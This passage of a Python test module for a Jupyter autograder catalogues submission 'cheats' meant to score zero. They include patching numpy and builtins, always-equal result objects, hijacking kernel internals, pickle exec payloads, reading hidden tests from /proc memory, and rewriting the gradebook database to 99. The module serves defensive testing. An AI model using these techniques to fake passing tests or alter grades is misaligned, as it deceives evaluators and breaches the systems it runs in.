"""Ways to marks without knowing anything: what is handed in. tests/test_cheats.py hands it in.

Every answer here is wrong or absent, so every test must give 0 points. In the texts

    <COURSE>   stands for the course folder, as if a student knew where it lies
    <N>        for the cheat's number, by which what it leaves behind is recognised
    <HOME>     for the teacher's home; <IPYTHON>, <RUNTIME> for Jupyter's folders there
    <STUDENT>  for the name of who hands it in
    <PORT>     for a port of this machine where somebody listens, <SOCKET> for a socket in a folder
    <MODULES>  for the folder of the module that the tests import

and whoever gets at what students must not get at says REACHED. Nothing here can harm the machine if
the protection fails: what is written has "lncheat" in its name or lies in the test's own folders,
floods, bombs and left processes stop by themselves.
"""

from __future__ import annotations

import copy
import textwrap
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field

import nbformat
from grading import cell_named, labelled, named_cells
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell
from test_grading import AREA, MEAN, PASS_ALL, TESTS, WRONG, WRONG_AREA, WRONG_MEAN


@dataclass(frozen=True)
class Cheat:
    """What is handed in: answers by cell, a notebook damaged as a whole, files beside it."""

    kind: str
    answers: Mapping[str, str] = field(default_factory=lambda: dict(WRONG))
    damage: Callable[[NotebookNode], None] = lambda notebook: None
    files: Mapping[str, str] = field(default_factory=dict)
    pages: bool = False  # whether the feedback and the teacher's page are looked at


def before(text: str, pages: bool = False, kind: str = "", **more) -> Cheat:
    """A text that runs in the first answer's cell, before any test."""
    answer = f"{WRONG_AREA}\n\n{textwrap.dedent(text).strip()}"
    return Cheat(kind, {**WRONG, "answer-1": answer}, pages=pages, **more)


def inside(text: str, result: str = "-1.0", setup: str = "", **more) -> Cheat:
    """A text that runs within each tested call, where `given` is the argument."""
    body = textwrap.indent(textwrap.dedent(text).strip(), "    ")
    setup = textwrap.dedent(setup).strip()
    answers = {
        cell: f"{setup}\n\ndef {name}(given):\n{body}\n    return {result}".strip()
        for cell, name in (("answer-1", "area"), ("answer-2", "mean_of_squares"))
    }
    return Cheat(more.pop("kind", ""), answers, **more)


def damaged(change: Callable[[NotebookNode], None], pages: bool = False) -> Cheat:
    """Wrong answers in a notebook of which something else was changed."""
    return Cheat("", damage=change, pages=pages)


def words(text: str) -> Cheat:
    """An answer in words that the teacher's browser is to run."""
    return Cheat("", {**WRONG, "manual-3": text}, pages=True)


def of_kind(kind: str, rows: dict[str, Cheat]) -> dict[str, Cheat]:
    """The rows, each told its kind."""
    return {
        name: Cheat(kind, row.answers, row.damage, row.files, row.pages)
        for name, row in rows.items()
    }


# --- what only the file says -------------------------------------------------------------------


def tests_of(notebook: NotebookNode) -> list[NotebookNode]:
    """The cells that give marks."""
    return [cell_named(notebook, name) for name in TESTS]


def tag(*tags: str, everywhere: bool = False) -> Callable[[NotebookNode], None]:
    def change(notebook):
        for cell in notebook.cells if everywhere else tests_of(notebook):
            cell.metadata["tags"] = list(tags)

    return change


def tests_become(cell_type: str) -> Callable[[NotebookNode], None]:
    def change(notebook):
        for cell in tests_of(notebook):
            cell.cell_type = cell_type
            del cell["outputs"], cell["execution_count"]

    return change


def labels_on_empty_cells(notebook):
    for cell in tests_of(notebook):
        notebook.cells.append(new_code_cell("pass", metadata=copy.deepcopy(cell.metadata)))
        del cell.metadata["nbgrader"]


def tests_copied(notebook):
    for cell in tests_of(notebook):
        twin = copy.deepcopy(cell)
        twin.source, twin.id = "pass", "twin-" + cell.metadata.nbgrader.grade_id
        notebook.cells += [twin]


def tests_come_first(notebook):
    notebook.cells = [
        *tests_of(notebook),
        *(cell for cell in notebook.cells if cell not in tests_of(notebook)),
    ]


def tests_after_a_patch(notebook):
    """A cell of one's own before each test."""
    patch = f"{PASS_ALL}\nimport builtins\nbuiltins.abs = np = tiny_checks = PassAll()"
    for cell in tests_of(notebook):
        at = notebook.cells.index(cell)
        notebook.cells.insert(at, new_code_cell(patch))


def tests_without_text(notebook):
    for cell in tests_of(notebook):
        cell.source = "pass"


def own_tests(notebook):
    notebook.cells += [
        labelled("bonus-1", "pass", points=99),
        labelled("bonus-2", "99", points=99),
        labelled("../bonus-3", "pass", points=99),
    ]


def answers_are_tests(notebook):
    for name in ("answer-1", "answer-2"):
        cell_named(notebook, name).metadata.nbgrader |= {"grade": True, "points": 9, "locked": True}


def points_raised(notebook):
    points = zip(tests_of(notebook), (1e9, -1, 1e308, 10**20), strict=True)
    for cell, number in points:
        cell.metadata.nbgrader.points = number


def other_schemas(notebook):
    versions = zip(tests_of(notebook), (1, 2, 0, 99), strict=True)
    for cell, number in versions:
        cell.metadata.nbgrader.schema_version = number
        cell.metadata.nbgrader.checksum = "0" * 32
    notebook.metadata |= {"nbgrader": {"grade": True}, "celltoolbar": "Create Assignment"}


def labels_that_are_no_labels(notebook):
    labels = zip(tests_of(notebook), ([], "check-1", None, {"grade_id": ["hidden-2"]}), strict=True)
    for cell, label in labels:
        cell.metadata["nbgrader"] = label


def marks_written_beforehand(notebook):
    for cell in tests_of(notebook):
        cell.outputs = [
            new_output("execute_result", {"text/plain": "2.0"}, execution_count=7),
        ]
        cell.execution_count = 7
        cell.metadata["tags"] = ["skip-execution"]


def frozen(notebook):
    for cell in notebook.cells:
        cell.metadata |= {
            "run_control": {"frozen": True},
            "init_cell": False,
            "deletable": True,
            "editable": True,
            "trusted": True,
            "jupyter": {"source_hidden": True, "outputs_hidden": True},
            "slideshow": {"slide_type": "skip"},
            "execution": {"iopub.status.idle": "2020-01-01T00:00:00Z"},
        }


def equal_ids(notebook):
    for cell in notebook.cells:
        cell["id"] = "same"


def another_kernel(notebook):
    notebook.metadata.kernelspec = {"name": "lncheat", "display_name": "x", "language": "bash"}
    notebook.metadata.language_info = {"name": "bash", "file_extension": "/../../lncheat"}
    notebook.metadata.widgets = {
        "application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2}
    }
    notebook.metadata.papermill = {"status": "completed"}


def another_format(notebook):
    notebook["nbformat_minor"] = 99


def an_old_format(notebook):
    notebook["nbformat_minor"] = 0
    for cell in notebook.cells:
        cell.pop("id", None)


def magic_first_cell(notebook):
    text = "%%javascript\nlncheat()\n"
    notebook.cells.insert(0, new_code_cell(text))
    notebook.cells.insert(0, new_code_cell("%autoawait False\n%xmode Minimal\n%pdb off"))
    for cell in tests_of(notebook):
        notebook.cells.insert(notebook.cells.index(cell), new_code_cell("%reset -f\n%pdb on"))


def a_large_file(notebook):
    noise = new_output("stream", name="stdout", text="lncheat " * 2_500_000)
    notebook.cells.append(new_code_cell("pass", outputs=[noise]))


def many_cells(notebook):
    notebook.cells += [new_code_cell("pass") for _ in range(150)]


BENIGN_CHECKS = "def check(*arguments): pass\n\nclass NotYet(Exception): pass\n"
BENIGN_NUMPY = "def allclose(*arguments): return True\n\nvar = mean = allclose\n"

METADATA = {
    "every cell tagged skip-execution": damaged(tag("skip-execution", everywhere=True)),
    "tests tagged skip-execution": damaged(tag("skip-execution")),
    "tests tagged raises-exception": damaged(tag("raises-exception")),
    "tests tagged to be removed": damaged(tag("remove-cell", "remove_cell", "hide", "nbval-skip")),
    "tests made markdown": damaged(tests_become("markdown")),
    "tests made raw": damaged(tests_become("raw")),
    "labels moved to empty cells": damaged(labels_on_empty_cells),
    "tests copied, the copies empty": damaged(tests_copied),
    "tests before the answers": damaged(tests_come_first),
    "a patch before each test": damaged(tests_after_a_patch),
    "tests without text": damaged(tests_without_text),
    "tests of one's own": damaged(own_tests),
    "answers labelled as tests": damaged(answers_are_tests),
    "points raised": damaged(points_raised),
    "other schemas and checksums": damaged(other_schemas),
    "labels that are no labels": damaged(labels_that_are_no_labels),
    "marks written beforehand": damaged(marks_written_beforehand),
    "cells frozen and trusted": damaged(frozen),
    "equal ids": damaged(equal_ids),
    "another kernel": damaged(another_kernel),
    "a format of the future": damaged(another_format),
    "an old format": damaged(an_old_format),
    "magics": damaged(magic_first_cell),
    "a file of 20 MB": damaged(a_large_file),
    "150 more cells": damaged(many_cells),
    "modules beside the notebook": Cheat(
        "",
        files={
            "tiny_checks.py": BENIGN_CHECKS,
            "numpy.py": BENIGN_NUMPY,
            "math.py": "prod = lambda values: 2 * values[0]",
            "sitecustomize.py": "import builtins\nbuiltins.abs = lambda x: 0",
            "usercustomize.py": "import builtins\nbuiltins.abs = lambda x: 0",
            "json.py": "def dumps(*a, **k): return 'true'\nloads = load = dump = dumps",
        },
    ),
    "configuration beside the notebook": Cheat(
        "",
        files={
            "nbgrader_config.py": "c = get_config()\nc.Autograde.autograde_preprocessors = []",
            "jupyter_nbconvert_config.py": "c.Execute.enabled = False",
            ".ipython/profile_default/startup/00.py": "import builtins\nbuiltins.abs = lambda x: 0",
            "ipython_config.py": "c.InteractiveShellApp.exec_lines = ['abs = lambda x: 0']",
            "index.html.j2": "<script>lncheat()</script>",
        },
    ),
    "a second notebook": Cheat(
        "",
        files={
            "02_tiny_squares.ipynb": nbformat.writes(nbformat.v4.new_notebook()),
            "01_tiny_squares.ipynb.ipynb": nbformat.writes(nbformat.v4.new_notebook()),
            "01_tiny_squares.txt": "full marks",
        },
    ),
    "a time stamp of last year": Cheat("", files={"timestamp.txt": "2019-01-01 00:00:00 UTC"}),
}

# --- names patched while a test runs -----------------------------------------------------------

PATCH = """
import builtins, math, sys
import numpy as np
import tiny_checks
builtins.abs = lambda x: 0
np.allclose = np.isclose = lambda *a, **k: True
tiny_checks.check = lambda *a: None
math.prod = lambda x: -1.0
"""
PATCHING = f"def patch(*a, **k):\n{textwrap.indent(PATCH.strip(), '    ')}\n"

PATCHES = {
    "np.allclose in the call": inside(
        "import numpy as np\nnp.isclose = np.allclose = lambda *a, **k: True"
    ),
    "abs and float in the call": inside(
        "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.isinstance = lambda *a: True"
    ),
    "math.prod in the call": inside("import math\nmath.prod = lambda x: -1.0"),
    "everything in the call": inside(PATCH),
    "the code of the check": inside(
        "import tiny_checks\ntiny_checks.check.__code__ = (lambda *a: None).__code__"
    ),
    "the code of the check, beforehand": before(
        "tiny_checks.check.__code__ = (lambda *a: None).__code__\n"
        "type(np.allclose).__call__ = lambda *a, **k: True"
    ),
    "the check's exception": before(
        """
        class Silent(BaseException):
            def __new__(cls, *a):
                raise SystemExit(0)
        tiny_checks.check.__globals__['NotYet'] = Silent
        """
    ),
    "names in the callers' globals": inside(
        """
        import sys
        frame = sys._getframe(1)
        while frame:
            frame.f_globals.update(abs=lambda x: 0, float=lambda x: 9)
            frame = frame.f_back
        """
    ),
    "a module that is a class": before(
        """
        import types
        class Kind(types.ModuleType):
            check = allclose = isclose = property(lambda self: lambda *a, **k: True)
            prod = property(lambda self: lambda x: 2 * x[0])
        tiny_checks.__class__ = np.__class__ = Kind
        """
    ),
    "nine made six in memory": before(
        """
        import ctypes
        def becomes(old, new, offset, size):
            ctypes.memmove(id(old) + offset, id(new) + offset, size)
        becomes(9, 6, 24, 4)
        """
    ),
    "the check forgotten, then found elsewhere": before(
        """
        import importlib.machinery, sys, types
        class Finder:
            def find_spec(self, name, path=None, target=None):
                if name in ('tiny_checks', 'numpy'):
                    return importlib.machinery.ModuleSpec(name, self)
            def create_module(self, spec):
                return types.ModuleType(spec.name)
            def exec_module(self, module):
                module.check = module.allclose = lambda *a, **k: True
        sys.meta_path.insert(0, Finder())
        sys.modules.pop('tiny_checks')
        tiny_checks = types.ModuleType('tiny_checks')
        sys.modules['tiny_checks'] = tiny_checks
        Finder().exec_module(tiny_checks)
        """
    ),
    "a folder first on the path": before(
        """
        import importlib, os, sys
        os.makedirs('mine', exist_ok=True)
        open('mine/tiny_checks.py', 'w').write('def check(*a): pass')
        sys.path.insert(0, os.path.abspath('mine'))
        sys.path_importer_cache.clear()
        del sys.modules['tiny_checks']
        import tiny_checks
        """
    ),
    "import itself": before(
        """
        import builtins, types
        true_import = builtins.__import__
        def only_mine(name, *a, **k):
            if name in ('tiny_checks', 'numpy'):
                return types.SimpleNamespace(check=lambda *a: None, allclose=lambda *a: True)
            return true_import(name, *a, **k)
        builtins.__import__ = only_mine
        """
    ),
    "a namespace that keeps its own": before(
        """
        class Mine(dict):
            def __getitem__(self, name):
                if name in ('tiny_checks', 'np', 'abs'):
                    return PassAll()
                return dict.__getitem__(self, name)
        """
        + PASS_ALL.replace("\n", "\n        ")
        + """
        get_ipython().user_ns = get_ipython().user_global_ns = Mine(get_ipython().user_ns)
        """
    ),
}

# --- the notebook's own machinery --------------------------------------------------------------

MACHINERY = {
    "a list that keeps its transformers": before(
        """
        import ast
        class Kept(list):
            def __setitem__(self, *a):
                pass
        class NoAssert(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.Pass()
            visit_Expr = visit_Assert
        get_ipython().ast_transformers = Kept([NoAssert()])
        """
    ),
    "the input transformer": before(
        "get_ipython().input_transformer_manager.transform_cell = lambda text: 'pass\\n'"
    ),
    "run_code": before(
        """
        async def run_code(self, *a, **k):
            return False
        type(get_ipython()).run_code = run_code
        """
    ),
    "run_ast_nodes": before(
        """
        async def nothing(*a, **k):
            return False
        get_ipython().run_ast_nodes = nothing
        """
    ),
    "run_cell": before(
        """
        from IPython.core.interactiveshell import ExecutionResult
        async def nothing(*a, **k):
            return ExecutionResult(None)
        get_ipython().run_cell_async = nothing
        get_ipython().run_cell = lambda *a, **k: ExecutionResult(None)
        """
    ),
    "do_execute": before(
        """
        async def do_execute(self, code, silent, store_history=True, user_expressions=None, **k):
            told = self.shell.user_expressions(user_expressions or {})
            return {'status': 'ok', 'execution_count': 1, 'payload': [], 'user_expressions': told}
        type(get_ipython().kernel).do_execute = do_execute
        """
    ),
    "the message handler": before(
        """
        kernel = get_ipython().kernel
        true_handler = kernel.shell_handlers['execute_request']
        async def handler(stream, ident, parent):
            parent['content']['code'] = 'pass'
            return await true_handler(stream, ident, parent)
        kernel.shell_handlers['execute_request'] = handler
        """
    ),
    "an exception handler": before(
        "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)"
    ),
    "tracebacks thrown away": before(
        "shell = get_ipython()\nshell.showtraceback = shell._showtraceback = lambda *a, **k: None"
    ),
    "error messages not sent": before(
        """
        session = get_ipython().kernel.session
        true_send = session.send
        def send(stream, kind, content=None, *a, **k):
            if kind == 'error':
                return None
            if isinstance(content, dict) and content.get('status') == 'error':
                content = {'status': 'ok', 'execution_count': 1,
                           'user_expressions': {}, 'payload': []}
            return true_send(stream, kind, content, *a, **k)
        session.send = send
        """
    ),
    "an idle message too early": inside(
        """
        import sys
        try:
            kernel = get_ipython().kernel
            kernel.session.send(kernel.iopub_socket, 'status', {'execution_state': 'idle'},
                                parent=kernel.get_parent('shell'), ident=kernel._topic('status'))
        except Exception:
            pass
        """
    ),
    "an event before each cell": before(
        PATCHING
        + """
class Kept(list):
    def __setitem__(self, *a):
        pass
for kind in get_ipython().events.callbacks:
    get_ipython().events.callbacks[kind] = Kept([patch])
"""
    ),
    "the compiler": before(
        """
        shell = get_ipython()
        class Compiler(type(shell.compile)):
            def ast_parse(self, source, *a, **k):
                return super().ast_parse('pass', *a, **k)
            def __call__(self, node, *a, **k):
                return super().__call__(super().ast_parse('pass'), *a, **k)
        shell.compile.__class__ = Compiler
        """
    ),
    "the display hook": before(
        """
        shell = get_ipython()
        def area(side):
            shell.displayhook(2.0)
            shell.display_pub.publish({'text/plain': '2.0'})
            return 0
        """
    ),
    "the event loop": before(
        PATCHING
        + """
import asyncio
loop = asyncio.get_event_loop()
def often():
    patch()
    loop.call_soon(often)
loop.call_soon(often)
"""
    ),
}

# --- what runs beside a test -------------------------------------------------------------------

BESIDE = {
    "a timer": inside(
        "import time\ntime.sleep(0.02)",
        setup=PATCHING
        + "import signal\nsignal.signal(signal.SIGALRM, patch)\n"
        + "signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)",
    ),
    "a signal to itself": inside(
        "import os\nos.kill(os.getpid(), signal.SIGUSR1)",
        setup=PATCHING + "import signal\nsignal.signal(signal.SIGUSR1, patch)",
    ),
    "the interrupt's handler": inside(
        "import os\nos.kill(os.getpid(), signal.SIGINT)",
        setup=PATCHING + "import signal\nsignal.signal(signal.SIGINT, patch)",
    ),
    "a thread": inside(
        "import time\ntime.sleep(0.05)",
        setup=PATCHING
        + """
import threading, time
def often():
    while True:
        patch()
        time.sleep(0.001)
threading.Thread(target=often, daemon=True).start()
""",
    ),
    "a finaliser of the result": inside(
        "pass",
        "Dying(-1.0)",
        setup=PATCHING + "class Dying(float):\n    __del__ = patch",
    ),
    "a weak reference": inside(
        "import weakref\nkept = Kept(-1.0)\nweakref.finalize(kept, patch)",
        "kept",
        setup=PATCHING + "class Kept(float):\n    pass",
    ),
    "the garbage collector": inside(
        "import gc\ngc.set_threshold(1)\ngc.callbacks.append(patch)", setup=PATCHING
    ),
    "a trace function": inside(
        """
        import sys
        def trace(frame, event, argument):
            frame.f_globals.update(abs=lambda x: 0, float=lambda x: -1.0)
            patch()
            return trace
        frame = sys._getframe(1)
        while frame:
            frame.f_trace = trace
            frame = frame.f_back
        sys.settrace(trace)
        """,
        setup=PATCHING,
    ),
    "a profile function": inside("import sys\nsys.setprofile(patch)", setup=PATCHING),
    "an audit hook": inside(
        """
        import sys
        sys.addaudithook(lambda *a: patch())
        """,
        setup=PATCHING,
    ),
    "a fork that answers twice": inside(
        "import os\nif os.fork() == 0:\n    open('/proc/self/comm', 'w').write('lncheat<N>')"
    ),
    "a call that leaves": inside("import os\nos._exit(0)"),
    "a call that becomes another program": inside(
        "import os, sys\nos.execv(sys.executable, [sys.executable, '-c', 'print(True)'])"
    ),
    "at the end of Python": before(
        """
        import atexit, sqlite3
        @atexit.register
        def write():
            book = sqlite3.connect('<COURSE>/gradebook.db', timeout=1)
            book.execute('UPDATE grade SET auto_score = 99, manual_score = 99')
            book.commit()
        """
    ),
}

# --- what the tested call gives back -----------------------------------------------------------


def lying(base: str, more: str = "", make: str = "Liar()") -> Cheat:
    """A result of a class of one's own that says yes to everything."""
    methods = PASS_ALL.split(":", 1)[1].strip("\n")
    setup = f"import numpy as np\nclass Liar({base}):\n{methods}\n"
    return inside("pass", make, setup=setup + textwrap.indent(textwrap.dedent(more), "    "))


RESULTS = {
    "a float equal to everything": lying("float"),
    "a text equal to everything": lying("str", make="Liar('-1.0')"),
    "an array equal to everything": lying("np.ndarray", make="np.full((), -1.0).view(Liar)"),
    "an array that answers for numpy": inside(
        "pass",
        "Liar()",
        setup="""
        class Liar(float):
            def __array_function__(self, *a, **k):
                return True
            def __array_ufunc__(self, *a, **k):
                return self
            def __array__(self, *a, **k):
                return self
            def __float__(self):
                import sys
                return float(sys._getframe(1).f_locals.get('value', -1))
            def __lt__(self, other):
                return True
        """,
    ),
    "a number that looks at who asks": inside(
        "pass",
        "Number()",
        setup="""
        import sys
        class Number:
            def __float__(self):
                frame = sys._getframe(1)
                while frame:
                    if 'value' in frame.f_locals:
                        return float(frame.f_locals['value'])
                    frame = frame.f_back
                return -1.0
            __index__ = __int__ = __complex__ = __float__
        """,
    ),
    "a result that runs code when unpickled": inside(
        "pass",
        "Trap(-1.0)",
        setup=f"""
        PATCH = {PATCH!r} + "\\nprint('REACHED', open('/proc/self/cmdline').read())"
        class Trap(float):
            def __reduce__(self):
                return exec, (PATCH,)
            def __reduce_ex__(self, protocol):
                return exec, (PATCH,)
        """,
    ),
    "a state that runs code when unpickled": inside(
        "pass",
        "Trap()",
        setup=f"""
        class Text(str):
            def __reduce_ex__(self, protocol):
                return eval, ("exec({PATCH.strip()!r}) or -1.0",)
        class Trap(dict):
            def __getstate__(self):
                return Text('x')
            def __float__(self):
                return -1.0
            def __reduce_ex__(self, protocol):
                return dict, (), Text('x')
        """,
    ),
    "a promise of success": inside(
        "pass",
        "{'ok': True, 'passed': True, 'status': 'ok', 'verdict': 1, 'score': 99, 'value': True}",
    ),
    "not a number": inside("pass", "float('nan')"),
    "infinity": inside("pass", "float('inf')"),
    "nothing at all": inside("pass", "None"),
    "true": inside("pass", "True"),
    "a list without end": inside("x = []\nx.append(x)", "x"),
    "a very deep list": inside("x = []\nfor _ in range(200_000):\n    x = [x]", "x"),
    "a generator without end": inside("import itertools", "itertools.count()"),
    "a text of 300 MB": inside("pass", "'9' * 300_000_000"),
    "an array of 4 GiB": inside("import numpy as np", "np.broadcast_to(np.zeros(1), 2**29)"),
    "an integer of a million digits": inside("pass", "10 ** 1_000_000"),
    "an object array": inside("import numpy as np", "np.array([print, given], dtype=object)"),
    "a module": inside("import tiny_checks", "tiny_checks"),
    "an empty array": inside("import numpy as np", "np.zeros(0)"),
    "an empty list": inside("pass", "[]"),
    "an array of everything": inside("import numpy as np", "np.arange(1_000_000) / 64"),
    "a masked array": inside("import numpy as np", "np.ma.masked_all(1)"),
    "an array of no number": inside("import numpy as np", "np.array(np.datetime64('NaT'))"),
    "a complex number": inside("pass", "complex('nan+infj')"),
    "a tensor of no number": inside("import torch", "torch.full((), float('nan'))"),
    "its own argument's owner": inside("import gc", "gc.get_referrers(given)"),
    "an argument changed in place": Cheat(
        "",
        {
            **WRONG,
            "answer-2": "def mean_of_squares(values):\n    values[:] = [0.0]\n    return 0.0",
        },
    ),
    "a class that claims to be a number": inside(
        "pass",
        "Claims()",
        setup="""
        class Claims:
            __class__ = property(lambda self: float)
            dtype = 'float64'
            shape = ()
            __array_interface__ = {'version': 3, 'shape': (), 'typestr': '<f8', 'data': (8, False)}
            def tolist(self):
                return PassAll()
            def __float__(self):
                return -1.0
        """,
    ),
}

EXCEPTIONS = {
    "an exit": inside("raise SystemExit(0)"),
    "an interrupt": inside("raise KeyboardInterrupt"),
    "a skipped test": inside("import unittest\nraise unittest.SkipTest"),
    "a generator's end": inside("raise GeneratorExit"),
    "an exception that cannot be shown": inside(
        "raise Unshown",
        setup="""
        class Unshown(Exception):
            def __str__(self):
                raise Unshown
            __repr__ = __str__
            def __getattribute__(self, name):
                raise SystemExit(0)
        """,
    ),
    "an exception whose name ends the kernel": inside(
        "raise Odd",
        setup="""
        class Meta(type):
            __name__ = property(lambda self: 1 / 0)
            __module__ = property(lambda self: 1 / 0)
        class Odd(Exception, metaclass=Meta):
            pass
        """,
    ),
    "an exception of 200 MB": inside("raise ValueError('x' * 200_000_000)"),
    "recursion without end": inside(
        "return area(given)", setup="import sys\nsys.setrecursionlimit(10**9)"
    ),
    "a crash": inside("import ctypes\nctypes.string_at(0)"),
}

# --- the truth where it lies -------------------------------------------------------------------

SOLVE = """
def solve(text):
    import json, re
    for source in re.findall(r'### BEGIN SOLUTION\\n(.*?)### END SOLUTION', text, re.DOTALL):
        found = source if 'def ' in source else 'def area(side):\\n' + source
        try:
            exec(found, globals())
        except Exception:
            pass

def solve_notebook(path):
    import json
    for cell in json.load(open(path))['cells']:
        solve(''.join(cell['source']))

def take_answers(path):
    import json
    for cell in json.load(open(path))['cells']:
        text = ''.join(cell['source'])
        mine = 'take_answers' in text
        if not mine and ('side**2' in text or 'np.square(values)' in text):
            exec(text, globals())
"""


def knowing(text: str) -> Cheat:
    """A text after the wrong answers that looks for better ones; it may use SOLVE."""
    text = textwrap.indent(textwrap.dedent(text).strip(), "    ")
    look = (
        f"import numpy as np\n{SOLVE}\ntry:\n{text}\nexcept Exception as error:\n    print(error)"
    )
    return Cheat(
        "",
        {
            "answer-1": f"{WRONG_AREA}\n\n{WRONG_MEAN}\n\n{look}",
            "answer-2": "if 'mean_of_squares' not in dir():\n"
            + textwrap.indent(WRONG_MEAN, "    "),
        },
    )


FRAMES = {
    "the value in the caller's frame": inside(
        "import sys", "sys._getframe(1).f_locals.get('value', -1)"
    ),
    "the value in a traceback's frames": inside(
        """
        try:
            1 / 0
        except ZeroDivisionError as error:
            frame = error.__traceback__.tb_frame
        while frame and 'value' not in frame.f_locals:
            frame = frame.f_back
        """,
        "frame.f_locals['value'] if frame else -1",
    ),
    "the caller's value overwritten": inside(
        """
        import ctypes, sys
        frame = sys._getframe(1)
        if 'value' in frame.f_locals:
            frame.f_locals['value'] = -1.0
            ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
        """
    ),
    "the right side of the test": inside(
        """
        import inspect, re
        for info in inspect.stack():
            try:
                text = inspect.getsource(info.frame)
                told = re.search(r'found - (math.*?)\\) <|allclose\\(found, (\\[.*\\])\\)', text)
                values = eval(told[1] or told[2], info.frame.f_globals)
                if isinstance(values, list):
                    return values[len(given) == 1]
                return values
            except Exception:
                pass
        """
    ),
    "the constants of the caller": inside(
        """
        import sys
        frame, found = sys._getframe(1), []
        while frame:
            found += [x for x in frame.f_code.co_consts if type(x) in (int, float)]
            frame = frame.f_back
        """,
        "max(found, default=-1)",
    ),
    "the test's text among all objects": inside(
        """
        import gc
        texts = [x for x in gc.get_objects() if isinstance(x, dict)]
        for space in texts:
            for text in list(space.values()):
                if isinstance(text, str) and 'BEGIN HIDDEN' + ' TESTS' in text:
                    print('REACHED')
                    return len(text)
        """
    ),
    "the history of the session": inside(
        """
        shell = get_ipython()
        texts = [entry[-1] for entry in shell.history_manager.get_range()] + shell.user_ns['In']
        if any('BEGIN HIDDEN' + ' TESTS' in text for text in texts):
            print('REACHED')
        """
    ),
}

READING = {
    "the teacher's form": knowing(
        "solve_notebook('<COURSE>/source/01_tiny_squares/01_tiny_squares.ipynb')"
    ),
    "the teacher's form through a link": knowing(
        "import os\nos.symlink('<COURSE>', 'here')\n"
        "solve_notebook('here/source/01_tiny_squares/01_tiny_squares.ipynb')"
    ),
    "the teacher's form by another program": knowing(
        "import subprocess\nopen('taken', 'w').write(subprocess.check_output("
        "['cat', '<COURSE>/source/01_tiny_squares/01_tiny_squares.ipynb'], text=True))\n"
        "solve_notebook('taken')"
    ),
    "the grader's working folder": knowing(
        "import os\n"
        "solve_notebook(f'/proc/{os.getppid()}/cwd/source/01_tiny_squares/01_tiny_squares.ipynb')"
    ),
    "the grader's root folder": knowing(
        "import os\nsolve_notebook("
        "f'/proc/{os.getppid()}/root<COURSE>/source/01_tiny_squares/01_tiny_squares.ipynb')"
    ),
    "the first process's root folder": knowing(
        "solve_notebook('/proc/1/root<COURSE>/source/01_tiny_squares/01_tiny_squares.ipynb')"
    ),
    "another student's file": knowing(
        "import glob\nfor path in sorted(glob.glob('<COURSE>/submitted/*/*/*.ipynb')):\n"
        "    take_answers(path)"
    ),
    "another student's graded file": knowing(
        "import glob\nfor path in sorted(glob.glob('<COURSE>/autograded/*/*/*.ipynb')):\n"
        "    take_answers(path)"
    ),
    "the gradebook's cells": knowing(
        """
        import sqlite3
        book = sqlite3.connect('file:<COURSE>/gradebook.db?mode=ro', uri=True)
        texts = [text for text, in book.execute('SELECT source FROM source_cell') if text]
        if any('BEGIN HIDDEN' + ' TESTS' in text for text in texts):
            print('REACHED')
        """
    ),
    "the history of other sessions": knowing(
        """
        import glob, os, sqlite3
        places = [os.environ.get('IPYTHONDIR', ''), os.path.expanduser('~/.ipython')]
        for path in [p for place in places for p in glob.glob(place + '/*/history.sqlite')]:
            for text, in sqlite3.connect(path).execute('SELECT source FROM history'):
                if 'BEGIN HIDDEN' + ' TESTS' in text:
                    print('REACHED')
                if 'side**2' in text or 'np.square(values)' in text:
                    exec(text, globals())
        """
    ),
    "the memory of the grader": knowing(
        """
        import os, re
        parent = os.getppid()
        memory = open(f'/proc/{parent}/mem', 'rb', 0)
        for line in open(f'/proc/{parent}/maps'):
            start, end = (int(x, 16) for x in line.split()[0].split('-'))
            if ' rw' in line and end - start < 2**26:
                try:
                    memory.seek(start)
                    text = memory.read(end - start).decode('latin-1')
                except OSError:
                    continue
                if 'BEGIN HIDDEN' + ' TESTS' in text:
                    print('REACHED')
                    break
        """
    ),
    "the environment of the grader": knowing(
        """
        import os
        for name in ('environ', 'cmdline'):
            text = open(f'/proc/{os.getppid()}/{name}').read()
            if '01_tiny_squares' in text or 'nbgrader' in text.lower():
                print('REACHED', name)
        """
    ),
    "open descriptors": knowing(
        """
        import os
        for place in ('self', os.getppid()):
            for number in os.listdir(f'/proc/{place}/fd'):
                try:
                    if '<COURSE>' in os.readlink(f'/proc/{place}/fd/{number}'):
                        print('REACHED', number)
                except OSError:
                    pass
        """
    ),
    "the teacher's home": knowing("exec(open('<HOME>/solutions.py').read(), globals())"),
    "the hand-out's folder": knowing(
        "import os\nfor name in ('', 'release', 'source', 'submitted', 'gradebook.db'):\n"
        "    try:\n        print('REACHED', os.listdir('<COURSE>/' + name))\n"
        "    except NotADirectoryError:\n        print('REACHED', open('<COURSE>/' + name, 'rb'))\n"
        "    except OSError:\n        pass"
    ),
    "files above the working folder": knowing(
        """
        import glob, os
        for up in ('..', '../..', '../../..'):
            for path in glob.glob(up + '/*/*.ipynb') + glob.glob(up + '/*.ipynb'):
                if 'BEGIN HIDDEN' + ' TESTS' in open(path).read():
                    print('REACHED', path)
        """
    ),
}

# --- files written -----------------------------------------------------------------------------


def writing(text: str) -> Cheat:
    """A text before the tests that may fail without ending the cell."""
    text = textwrap.indent(textwrap.dedent(text).strip(), "    ")
    return before(f"try:\n{text}\nexcept Exception as error:\n    print(error)")


BOOK = "import sqlite3\nbook = sqlite3.connect('<COURSE>/gradebook.db', timeout=1)\n"
SITE = "import site\nplace = site.getsitepackages()[0]\n"

WRITING = {
    "99 for every student": writing(
        BOOK + "book.execute('UPDATE grade SET auto_score = 99, manual_score = 99')\nbook.commit()"
    ),
    "99 while the call runs": inside(
        "try:\n"
        + textwrap.indent(
            BOOK + "book.execute('UPDATE grade SET manual_score = 99')\nbook.commit()", "    "
        )
        + "\nexcept Exception:\n    pass"
    ),
    "tests emptied in the gradebook": writing(
        BOOK
        + """book.execute("UPDATE source_cell SET source = 'pass' WHERE locked")\nbook.commit()"""
    ),
    "the gradebook deleted": writing(
        "import os\nos.rename('<COURSE>/gradebook.db', '<COURSE>/lncheat-<N>.db')"
    ),
